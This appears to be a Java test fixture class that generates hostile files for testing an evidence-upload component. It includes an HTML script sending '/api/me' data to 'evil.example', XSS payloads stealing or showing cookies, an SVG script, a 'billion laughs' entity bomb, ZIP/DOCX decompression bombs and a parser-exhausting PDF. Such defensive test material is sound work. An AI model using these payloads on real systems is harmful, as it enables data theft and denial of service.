package org.agora.evidence.control;

import java.awt.Color;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;

/** Files made by the tests: hostile ones, and small harmless images and texts. */
final class HostileFiles {

    static final String WORD_DOCUMENT = "word/document.xml";

    private HostileFiles() {
    }

    /** The start of a Windows program: DOS header whose e_lfanew points at a PE header for x86. */
    static byte[] windowsProgram() {
        var exe = new byte[1024];
        exe[0] = 'M';
        exe[1] = 'Z';
        exe[0x3c] = (byte) 0x80;                                 // e_lfanew = 0x80
        byte[] stub = "This program cannot be run in DOS mode.\r\r\n$".getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(stub, 0, exe, 0x4e, stub.length);
        exe[0x80] = 'P';
        exe[0x81] = 'E';                                         // "PE\0\0"
        exe[0x84] = 0x4c;
        exe[0x85] = 0x01;                                        // machine: i386
        exe[0x86] = 0x01;                                        // one section
        exe[0x94] = (byte) 0xe0;                                 // size of optional header
        exe[0x96] = 0x02;                                        // characteristics: executable
        exe[0x98] = 0x0b;
        exe[0x99] = 0x01;                                        // optional header magic: PE32
        return exe;
    }

    static byte[] htmlWithScript() {
        return """
                <!DOCTYPE html>
                <html><head><title>Minutes</title></head>
                <body><p>Minutes of the meeting</p>
                <script>fetch('/api/me').then(r => r.text()).then(t => navigator.sendBeacon('//evil.example', t))</script>
                </body></html>
                """.getBytes(StandardCharsets.UTF_8);
    }

    /** HTML without doctype or html element, which type detection by magic does not recognise. */
    static byte[] htmlFragment() {
        return "<p>Please see the attached minutes.</p>\n<img src=x onerror=\"alert(document.cookie)\">\n"
                .getBytes(StandardCharsets.UTF_8);
    }

    static byte[] svgWithScript() {
        return """
                <?xml version="1.0" encoding="UTF-8"?>
                <svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
                  <rect width="10" height="10" fill="green"/>
                  <script type="text/javascript">alert(document.domain)</script>
                </svg>
                """.getBytes(StandardCharsets.UTF_8);
    }

    /** "Billion laughs": ten levels of ten references, 10^9 copies of "lol" if a parser expanded them. */
    static String billionLaughs(String rootOpen, String rootClose) {
        var xml = new StringBuilder("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n")
                .append("<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n");
        for (int level = 1; level <= 9; level++) {
            xml.append(" <!ENTITY lol").append(level).append(" \"");
            for (int i = 0; i < 10; i++) {
                xml.append("&lol").append(level == 1 ? "" : String.valueOf(level - 1)).append(';');
            }
            xml.append("\">\n");
        }
        return xml.append("]>\n").append(rootOpen).append("&lol9;").append(rootClose).append('\n').toString();
    }

    static byte[] billionLaughs() {
        return billionLaughs("<lolz>", "</lolz>").getBytes(StandardCharsets.UTF_8);
    }

    /** A copy of a real DOCX whose main part is replaced by a "billion laughs" document. */
    static void docxWithEntityBomb(Path docx, Path target) throws IOException {
        String bomb = billionLaughs("<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/"
                + "main\"><w:body><w:p><w:r><w:t>", "</w:t></w:r></w:p></w:body></w:document>");
        copyZip(docx, target, (name, in, out) -> {
            if (name.equals(WORD_DOCUMENT)) {
                out.write(bomb.getBytes(StandardCharsets.UTF_8));
            } else {
                in.transferTo(out);
            }
        }, List.of());
    }

    /**
     * A copy of a real DOCX (or other ZIP-based document) with an extra part of {@code zeros} zero bytes, written as it is compressed: neither the
     * zeros nor the result are ever held in memory.
     */
    static void docxWithZeros(Path docx, Path target, long zeros) throws IOException {
        copyZip(docx, target, (name, in, out) -> in.transferTo(out), List.of(zip -> {
            zip.putNextEntry(new ZipEntry("media/padding.png"));      // a type the package declares
            var block = new byte[1 << 16];
            for (long left = zeros; left > 0; left -= block.length) {
                zip.write(block, 0, (int) Math.min(block.length, left));
            }
            zip.closeEntry();
        }));
    }

    /**
     * A copy of a real DOCX whose main part holds {@code chars} characters of text (a compressed text bomb), in
     * paragraphs of {@code paragraphChars} characters, or in one single run when that is as large as the whole.
     */
    static void docxWithLongText(Path docx, Path target, long chars, int paragraphChars) throws IOException {
        copyZip(docx, target, (name, in, out) -> {
            if (!name.equals(WORD_DOCUMENT)) {
                in.transferTo(out);
                return;
            }
            out.write(("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><w:document xmlns:w="
                    + "\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>")
                    .getBytes(StandardCharsets.UTF_8));
            byte[] words = "lorem ipsum ".repeat(1000).getBytes(StandardCharsets.US_ASCII);
            byte[] open = "<w:p><w:r><w:t>".getBytes(StandardCharsets.US_ASCII);
            byte[] close = "</w:t></w:r></w:p>".getBytes(StandardCharsets.US_ASCII);
            long inParagraph = 0;
            out.write(open);
            for (long left = chars; left > 0; ) {
                int n = (int) Math.min(Math.min(words.length, left), paragraphChars - inParagraph);
                out.write(words, 0, n);
                left -= n;
                inParagraph += n;
                if (inParagraph == paragraphChars && left > 0) {
                    out.write(close);
                    out.write(open);
                    inParagraph = 0;
                }
            }
            out.write(close);
            out.write("</w:body></w:document>".getBytes(StandardCharsets.UTF_8));
        }, List.of());
    }

    /** A copy of a real DOCX with {@code extra} more (tiny) parts. */
    static void docxWithParts(Path docx, Path target, int extra) throws IOException {
        copyZip(docx, target, (name, in, out) -> in.transferTo(out), List.of(zip -> {
            for (int i = 0; i < extra; i++) {
                zip.putNextEntry(new ZipEntry("customXml/item" + i + ".xml"));
                zip.write("<a/>".getBytes(StandardCharsets.US_ASCII));
                zip.closeEntry();
            }
        }));
    }

    interface EntryCopier {
        void copy(String name, InputStream in, OutputStream out) throws IOException;
    }

    interface Appender {
        void append(ZipOutputStream zip) throws IOException;
    }

    private static void copyZip(Path source, Path target, EntryCopier copier, List<Appender> appenders)
            throws IOException {
        try (var in = new ZipInputStream(Files.newInputStream(source));
                var zip = new ZipOutputStream(Files.newOutputStream(target))) {
            for (ZipEntry entry; (entry = in.getNextEntry()) != null; ) {
                var copy = new ZipEntry(entry.getName());
                if (entry.getMethod() == ZipEntry.STORED) {              // ODF's "mimetype", which must stay so
                    byte[] bytes = in.readAllBytes();
                    var crc = new java.util.zip.CRC32();
                    crc.update(bytes);
                    copy.setMethod(ZipEntry.STORED);
                    copy.setSize(bytes.length);
                    copy.setCrc(crc.getValue());
                    zip.putNextEntry(copy);
                    zip.write(bytes);
                } else {
                    zip.putNextEntry(copy);
                    copier.copy(entry.getName(), in, new NonClosing(zip));
                }
                zip.closeEntry();
            }
            for (var appender : appenders) {
                appender.append(zip);
            }
        }
    }

    /**
     * A PDF written by hand, {@code pages} pages each showing one line of text, all sharing one content stream and
     * one font: about 100 bytes per page in the file but a full page for the parser, so a few thousand pages keep
     * Tika busy for seconds.
     */
    static void pdfWithPages(Path target, int pages) throws IOException {
        var objects = new ArrayList<byte[]>();
        var kids = new StringBuilder();
        for (int i = 0; i < pages; i++) {
            kids.append(5 + i).append(" 0 R ");
        }
        String content = "BT /F1 12 Tf 72 720 Td (Evidence page text, the same on every page.) Tj ET";
        objects.add(ascii("<< /Type /Catalog /Pages 2 0 R >>"));
        objects.add(ascii("<< /Type /Pages /Count " + pages + " /Kids [" + kids + "] >>"));
        objects.add(ascii("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"));
        objects.add(ascii("<< /Length " + content.length() + " >>\nstream\n" + content + "\nendstream"));
        for (int i = 0; i < pages; i++) {
            objects.add(ascii("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
                    + " /Resources << /Font << /F1 3 0 R >> >> >>"));
        }
        try (var out = new java.io.BufferedOutputStream(Files.newOutputStream(target))) {
            var offsets = new long[objects.size()];
            long at = 0;
            byte[] header = ascii("%PDF-1.4\n%\u00e2\u00e3\u00cf\u00d3\n");
            out.write(header);
            at += header.length;
            for (int i = 0; i < objects.size(); i++) {
                offsets[i] = at;
                byte[] object = ascii((i + 1) + " 0 obj\n" + new String(objects.get(i), StandardCharsets.ISO_8859_1)
                        + "\nendobj\n");
                out.write(object);
                at += object.length;
            }
            var xref = new StringBuilder("xref\n0 ").append(objects.size() + 1).append("\n0000000000 65535 f \n");
            for (long offset : offsets) {
                xref.append(String.format("%010d 00000 n \n", offset));
            }
            xref.append("trailer\n<< /Size ").append(objects.size() + 1).append(" /Root 1 0 R >>\nstartxref\n")
                    .append(at).append("\n%%EOF\n");
            out.write(ascii(xref.toString()));
        }
    }

    static byte[] png() throws IOException {
        return image("png");
    }

    static byte[] jpeg() throws IOException {
        return image("jpeg");
    }

    private static byte[] image(String format) throws IOException {
        var image = new BufferedImage(32, 24, BufferedImage.TYPE_INT_RGB);
        var g = image.createGraphics();
        g.setColor(Color.ORANGE);
        g.fillRect(0, 0, 32, 24);
        g.setColor(Color.BLUE);
        g.fillOval(4, 4, 16, 16);
        g.dispose();
        var out = new ByteArrayOutputStream();
        if (!ImageIO.write(image, format, out)) {
            throw new IllegalStateException("no " + format + " writer");
        }
        return out.toByteArray();
    }

    private static byte[] ascii(String s) {
        return s.getBytes(StandardCharsets.ISO_8859_1);
    }

    /** {@code length} bytes of text made on the fly, counting how many were read. */
    static final class Generated extends InputStream {

        private final long length;
        long read;

        Generated(long length) {
            this.length = length;
        }

        @Override
        public int read() {
            if (read >= length) {
                return -1;
            }
            return "abcdefghij\n".charAt((int) (read++ % 11));
        }

        @Override
        public int read(byte[] b, int off, int len) {
            if (read >= length) {
                return -1;
            }
            int n = (int) Math.min(len, length - read);
            for (int i = 0; i < n; i++) {
                b[off + i] = (byte) "abcdefghij\n".charAt((int) ((read + i) % 11));
            }
            read += n;
            return n;
        }
    }

    private static final class NonClosing extends java.io.FilterOutputStream {

        NonClosing(OutputStream out) {
            super(out);
        }

        @Override
        public void write(byte[] b, int off, int len) throws IOException {
            out.write(b, off, len);
        }

        @Override
        public void close() throws IOException {
            flush();
        }
    }
}
